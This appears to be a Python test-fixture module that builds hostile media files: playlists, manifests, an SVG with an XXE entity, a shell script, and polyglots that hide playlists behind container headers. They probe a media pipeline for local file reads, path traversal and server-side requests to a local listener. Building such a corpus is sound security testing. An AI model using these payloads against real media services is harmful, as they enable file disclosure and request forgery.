"""Files that are no media, or media with something else in front or behind: they point at a canary and a listener."""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class World:
    """What a hostile file may know: another account's video and text, a port that listens, a good file's folder."""

    canary: Path
    port: int
    bases: Path

    def base(self, name: str) -> bytes:
        """The bytes of a good file (corpus.BASES)."""
        return (self.bases / name).read_bytes()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/a"

    @property
    def near(self) -> str:
        """The canary by a relative name that holds in every folder."""
        return "../" * 24 + str(self.canary).lstrip("/")


def hls(world: World) -> str:
    return (f"#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\nfile:{world.canary}\n#EXTINF:2,\n{world.near}\n"
            f"#EXTINF:2,\n{world.url}.ts\n#EXT-X-ENDLIST\n")


def _texts(world: World) -> dict[str, str]:
    near, url, port = world.near, world.url, world.port
    return {
        "hls": hls(world),
        "hls-master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}.m3u8\n",
        "hls-key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="file:{world.canary}"\n#EXTINF:2,\n{url}.ts\n',
        "hls-concat": f"#EXTM3U\n#EXTINF:2,\nconcat:{url}.txt|file:{world.canary}\n#EXT-X-ENDLIST\n",
        "ffconcat": f"ffconcat version 1.0\nfile {near}\n",
        "ffconcat-url": f"ffconcat version 1.0\nfile {url}.mp4\n",
        "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
                'mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" '
                f'bandwidth="1"><BaseURL>{near}</BaseURL><BaseURL>{url}.mp4</BaseURL></Representation>'
                "</AdaptationSet></Period></MPD>",
        "smooth": f'<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="{url}"/></SmoothStreamingMedia>',
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
               "a=rtpmap:96 H264/90000\n",
        "rtsp": f"RTSPtext\nrtsp://127.0.0.1:{port}/x\n",
        "asx": f'<asx version="3.0"><entry><ref href="{url}.asf"/></entry></asx>',
        "asf-reference": f"[Reference]\nRef1={url}.asf\nRef2=file:{world.canary}\n",
        "pls": f"[playlist]\nFile1={url}.mp3\nNumberOfEntries=1\n",
        "xspf": f"<?xml version='1.0'?><playlist><trackList><track><location>{url}</location></track></trackList>"
                "</playlist>",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><image href="file:{world.canary}"/>'
               f'<image href="{url}.png"/></svg>',
        "svg-entity": f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file:{world.canary.with_suffix(".txt")}">'
                      ']><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>',
        "html": f'<!doctype html><html><body><video src="{url}.mp4"></video></body></html>',
        "avisynth": f'DirectShowSource("{world.canary}")\n',
        "vapoursynth": f"import vapoursynth\nopen('{world.canary}').read()\n",
        "cue": f'FILE "{world.canary}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        "ffmetadata": f";FFMETADATA1\ntitle={url}\n[CHAPTER]\nSTART=0\nEND=1\n",
        "srt": "1\n00:00:00,000 --> 00:00:02,000\nHello\n",
        "ass": f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {near}\n[Events]\n",
        "tty": "\x1b[2J\x1b[31mThe quick brown fox jumps over the lazy dog.\n" * 200,
        "shell": f"#!/bin/sh\ncat {world.canary}\n",
        "elf": "\x7fELF\x02\x01\x01" + "\0" * 200,
        "pdf": f"%PDF-1.4\n1 0 obj<</Type/Action/S/URI/URI({url})>>endobj\n%%EOF\n",
        "nothing": "\0",
        "spaces": " " * 5000,
    }


def _heads(world: World) -> dict[str, bytes]:
    """A playlist behind the first bytes of every container that is taken."""
    list_ = hls(world).encode()
    return {f"behind-{name}": head + list_ for name, head in {
        "ftyp": b"\0\0\0\x18ftypisom\0\0\2\0isommp41", "free": b"\0\0\0\x08free", "skip": b"\0\0\0\0skip",
        "wide": b"\0\0\0\x08wide\xff\xff\xff\xffmdat", "id3": b"ID3\4\0\0\0\0\0\0", "ebml": b"\x1aE\xdf\xa3",
        "ogg": b"OggS\0\2", "flv": b"FLV\x01\x05\0\0\0\x09\0\0\0\0", "avi": b"RIFF\xff\xff\xff\xffAVI ",
        "wave": b"RIFF\xff\xff\xff\xffWAVE", "flac": b"fLaC", "sync": b"\xff\xfb\x90\x64",
        "asf": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\0\xaa\0\x62\xce\x6c"}.items()}


def _zipped(**files: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return held.getvalue()


def _polyglots(world: World) -> dict[str, bytes]:
    """Good media with a playlist, an archive or a page in front of it or behind."""
    good, list_ = world.base("mp4.mp4"), hls(world).encode()
    archive = _zipped(film=good)
    return {
        "zip": archive, "mp4-then-zip": good + archive, "mp4-then-playlist": good + list_,
        "playlist-then-mp4": list_ + good, "mp3-then-playlist": world.base("mp3.mp3") + list_,
        "id3-then-mp4": b"ID3\4\0\0\0\0\0\0" + good, "id3-then-flac": b"ID3\4\0\0\0\0\0\0" + world.base("flac.flac"),
        "mp4-then-mkv": good + world.base("mkv.mkv"), "mp4-twice": good + good,
        "wav-then-wav": world.base("wav.wav") * 2, "html-in-free": b"\0\0\0\x2bfree<html><script src=//x></script>"
        + b" " * 3 + good,
    }


def disguises(world: World) -> dict[str, bytes]:
    """Name -> bytes."""
    texts = {name: text.encode("latin-1") for name, text in _texts(world).items()}
    return texts | _heads(world) | _polyglots(world)
